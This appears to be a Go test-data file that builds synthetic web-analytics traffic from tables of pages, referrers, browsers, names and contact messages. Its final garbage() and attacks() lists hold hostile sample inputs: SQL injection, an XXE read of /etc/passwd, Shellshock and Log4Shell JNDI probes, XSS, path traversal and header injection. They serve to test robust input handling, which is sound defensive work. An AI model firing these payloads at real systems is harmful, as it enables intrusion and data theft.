package traffic

// What the people of this world are called, read and come from. Function-local tables would be
// made anew with each call; these are never written.

type page struct {
	path, title string
	// weight is how often it is gone to next, against the others of its site.
	weight int
	// link is where a click on it may lead away, or empty.
	link string
}

func companyPages() []page {
	return []page{
		{"/", "Acme: pipelines that hold", 30, ""},
		{"/pricing", "Pricing", 16, ""},
		{"/product", "Product", 18, "https://status.acme.example/"},
		{"/docs/getting-started", "Getting started", 12, "https://acme.example/acme-cli.zip"},
		{"/docs/operations", "Operations", 7, "https://acme.example/runbook.pdf"},
		{"/docs/sql", "SQL reference", 6, ""},
		{"/blog/late-data", "What to do with late data", 9, "https://news.example.org/item/4711"},
		{"/blog/exactly-once", "Exactly once, measured", 8, "https://code.example.org/acme"},
		{"/blog/gap-of-thirty-minutes", "Why thirty minutes", 5, ""},
		{"/customers", "Customers", 5, ""},
		{"/about", "About us", 3, ""},
		{"/contact", "Contact", 6, ""},
	}
}

func eventPages() []page {
	return []page{
		{"/", "Data Summit 2026", 20, ""},
		{"/agenda", "Agenda", 16, "https://summit.example/agenda.ics"},
		{"/speakers", "Speakers", 10, ""},
		{"/sessions/streams-for-marketers", "Streams for marketers", 8, ""},
		{"/sessions/lakes-in-practice", "Lakes in practice", 7, ""},
		{"/venue", "Venue and travel", 5, "https://maps.example.org/?q=summit"},
		{"/register", "Register", 9, ""},
	}
}

// arrival is how a visit begins: what the browser names as referrer, and what the link says.
type arrival struct {
	referrer, query string
	weight          int
}

func arrivals() []arrival {
	return []arrival{
		{"", "", 36},
		{"https://www.google.com/", "", 24},
		{"https://www.bing.com/search?q=acme+pipelines", "", 5},
		{"https://duckduckgo.com/", "", 4},
		{"https://www.linkedin.com/", "", 6},
		{"https://t.co/Xy12abC", "", 3},
		{"https://news.ycombinator.com/", "", 3},
		{"https://partner.example.net/directory?of=acme", "", 3},
		{"", "utm_source=newsletter&utm_medium=email&utm_campaign=january-digest", 7},
		{
			"https://www.google.com/",
			"utm_source=google&utm_medium=cpc&utm_campaign=brand&utm_term=acme%20pipelines&gclid=Cj0x",
			4,
		},
		{
			"https://www.linkedin.com/feed/",
			"utm_source=linkedin&utm_medium=social&utm_campaign=summit-2026&utm_content=video",
			4,
		},
		{"", "utm_source=webinar&utm_medium=referral&utm_campaign=late-data&utm_content=slides", 1},
	}
}

type agent struct {
	userAgent string
	weight    int
	mobile    bool
}

func agents() []agent {
	return []agent{
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " +
			"Chrome/143.0.0.0 Safari/537.36", 30, false},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) " +
			"Chrome/143.0.0.0 Safari/537.36", 14, false},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 " +
			"(KHTML, like Gecko) Version/18.5 Safari/605.1.15", 10, false},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0", 8, false},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " +
			"Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0", 10, false},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 " +
			"(KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1", 16, true},
		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) " +
			"Chrome/143.0.0.0 Mobile Safari/537.36", 14, true},
		{"Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 " +
			"(KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1", 3, true},
	}
}

func crawlers() []string {
	return []string{
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; " +
			"+http://www.google.com/bot.html) Chrome/143.0.0.0 Safari/537.36",
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; " +
			"+http://www.bing.com/bingbot.htm) Chrome/143.0.0.0 Safari/537.36",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	}
}

const scannerAgent = "sqlmap/1.8.2#stable (https://sqlmap.org)"

func languages() []string {
	return []string{
		"en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.5", "fr-FR,fr;q=0.9,en;q=0.6",
		"es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9", "ja-JP,ja;q=0.9,en;q=0.4",
	}
}

func firstNames() []string {
	return []string{
		"Anna", "Ben", "Carla", "David", "Elif", "Farid", "Greta", "Hannah", "Ivan", "Julia",
		"Katarzyna", "Liam", "Maria", "Noah", "Olga", "Pedro", "Qing", "Rosa", "Samuel", "Tara",
		"Ulrich", "Valentina", "Wei", "Ximena", "Yusuf", "Zoë", "Jörg", "Chloé", "Łukasz", "Siobhán",
		"Robert", "William", "Elizabeth", "Katherine", "Michael", "Mohammed", "Priya", "Kenji",
	}
}

func lastNames() []string {
	return []string{
		"Smith", "Müller", "García", "Rossi", "Nowak", "Kowalska", "Jensen", "de Vries", "Dubois",
		"O'Brien", "Yılmaz", "Novák", "Silva", "Ivanova", "Tanaka", "Chen", "Patel", "Nguyen", "Kim",
		"Andersson", "Hoffmann", "Moreau", "Fischer", "Lopez", "Martin", "Brown", "Haddad", "Okafor",
		"Schneider", "Popescu", "Horváth", "MacLeod", "van den Berg", "Costa", "Weber", "Taylor",
	}
}

type employer struct{ name, domain, dialling string }

func employers() []employer {
	return []employer{
		{"Northwind Logistics", "northwind.example", "+44 20 7946"},
		{"Contoso AG", "contoso.example", "+49 30 2312"},
		{"Fabrikam, Inc.", "fabrikam.example", "+1 212 555"},
		{"Litware SARL", "litware.example", "+33 1 9900"},
		{"Tailspin Toys", "tailspin.example", "+1 415 555"},
		{"Adatum Bank", "adatum.example", "+48 22 555"},
		{"Wide World Importers", "wideworld.example", "+31 20 555"},
		{"Proseware Health", "proseware.example", "+1 617 555"},
		{"Graphic Design Institute", "gdi.example", "+34 91 555"},
		{"Alpine Ski House", "alpine.example", "+41 44 555"},
		{"Humongous Insurance", "humongous.example", "+44 161 496"},
		{"Blue Yonder Airlines", "blueyonder.example", "+1 303 555"},
	}
}

func freeMailers() []string {
	return []string{"gmail.com", "outlook.com", "web.de", "orange.fr", "proton.me"}
}

func messages() []string {
	return []string{
		"Please call me back about pricing.", "Do you run on our own servers?",
		"How do you handle “late” data?\nWe have a lot of it.", "Interested in a demo for 12 people",
		"Wir hätten gern ein Angebot.", "Bonjour, avez-vous une offre pour les écoles ?", "",
	}
}

// weighted returns the index of one of n entries, chosen by weight.
func (w *world) weighted(n int, weight func(i int) int) int {
	total := 0
	for i := range n {
		total += weight(i)
	}
	at := w.rand.IntN(total)
	for i := range n {
		if at -= weight(i); at < 0 {
			return i
		}
	}
	return n - 1
}

// garbage is what no reader of batches can use; each is one bad beacon.
func garbage() []string {
	return []string{
		`{"sent_at":`,
		`' OR 1=1 --`,
		`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
		"\xff\xfe\x00\x01\x02",
		`{"beacons":"all of them"}`,
		`"beacons"`,
		`() { :; }; echo vulnerable`,
		`${jndi:ldap://198.51.100.7/a}`,
	}
}

// attacks are texts that a reader must keep as they are, and nothing more.
func attacks() []string {
	return []string{
		"https://acme.example/product?id=1%27%20AND%20SLEEP(5)--",
		"https://acme.example/pricing?q=<script>alert(1)</script>",
		"https://acme.example/docs/sql?file=../../../../etc/passwd",
		"https://acme.example/about?name='; DROP TABLE visits; --",
		"https://acme.example/customers?x=%00%0d%0aSet-Cookie:%20a=b",
		"https://acme.example/?q=" + "\u202e" + "gnp.exe",
	}
}
